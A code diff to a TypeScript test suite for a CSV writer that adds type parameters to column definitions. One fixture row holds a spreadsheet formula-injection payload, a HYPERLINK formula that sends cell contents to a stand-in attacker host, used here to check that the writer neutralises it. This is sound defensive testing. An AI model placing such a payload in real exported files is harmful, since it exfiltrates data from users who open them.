@@ -27,7 +27,11 @@ describe('the one CSV writer', () => {
     const rows = [
       { name: '=1+1 Zéro', description: '=HYPERLINK("http://evil.example/?x="&A1;"clic")', zip: '01000' },
     ];
-    const csv = csvFromTable({ sheet: 'x', columns: fieldColumns(['name', 'description', 'zip']), rows });
+    const csv = csvFromTable({
+      sheet: 'x',
+      columns: fieldColumns<(typeof rows)[number]>(['name', 'description', 'zip']),
+      rows,
+    });
     expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     expect(read(csv)).toEqual([
       ['name', 'description', 'zip'],
@@ -38,14 +42,18 @@ describe('the one CSV writer', () => {
 
   it('writes a number column as a number, a negative one included; text there is neutralised', () => {
     const rows = [{ amount: -1500.5 }, { amount: '245000.50' }, { amount: '-1+1' }, { amount: null }];
-    const csv = csvFromTable({ sheet: 'x', columns: fieldColumns(['amount'], { amount: 'number' }), rows });
+    const csv = csvFromTable({
+      sheet: 'x',
+      columns: fieldColumns<(typeof rows)[number]>(['amount'], { amount: 'number' }),
+      rows,
+    });
     expect(read(csv).slice(1)).toEqual([['-1500.5'], ['245000.5'], ["'-1+1"], ['']]);
   });
 
   it('writes days as ISO, or as DD/MM/YYYY when asked, and instants as ISO', () => {
     const table = {
       sheet: 'x',
-      columns: fieldColumns(['day', 'at'], { day: 'date', at: 'datetime' }),
+      columns: fieldColumns<{ day: string; at: string }>(['day', 'at'], { day: 'date', at: 'datetime' }),
       rows: [{ day: '2026-03-09', at: '2026-03-09T22:30:00.000Z' }],
     };
     expect(read(csvFromTable(table))[1]).toEqual(['2026-03-09', '2026-03-09T22:30:00.000Z']);
